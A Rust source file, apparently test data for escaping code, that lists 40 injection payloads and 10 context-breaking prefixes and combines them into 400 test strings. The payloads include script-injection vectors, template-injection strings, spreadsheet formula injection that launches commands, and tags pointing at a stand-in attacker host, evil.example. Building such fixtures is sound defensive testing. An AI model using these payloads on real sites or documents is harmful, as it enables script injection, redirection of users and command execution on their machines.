//! Strings that would do something if they were taken for markup, script, style, template or
//! formula, written from what is publicly known of such attacks.

/// What is to be left as text.
const PAYLOADS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% include 'x' %}{# x #}",
    "{n} {share} {reason}",
    "javascript:alert(1)",
    "&lt;script&gt;&#60;script&#62;&#x3c;script&#x3e;",
    "\u{202e}tpircs\u{2066}\u{2028}\u{2029}",
    "\u{0}\u{1}\u{8}\u{1b}[31m\u{7f}\u{9b}",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r=1+1\r\n",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "</script><script>alert(1)</script>",
    "x:expression(alert(1));background:url(javascript:alert(1))",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<xss id=x tabindex=1 autofocus onfocus=alert(1)></xss>",
    "x' onmouseover='alert(1)' y=\"z\" onfocus=\"alert(1)",
];

/// What a payload may be put behind to leave the place it was written to.
const OPENINGS: [&str; 10] =
    ["", "\"", "'", "\">", "'>", "-->", "</title>", "</style>", "</desc></svg>", "</table></bdi>"];

/// Every payload behind every opening, 400 in all.
pub(crate) fn strings() -> Vec<String> {
    let behind = |opening: &'static str| PAYLOADS.iter().map(move |payload| format!("{opening}{payload}"));
    OPENINGS.into_iter().flat_map(behind).collect()
}
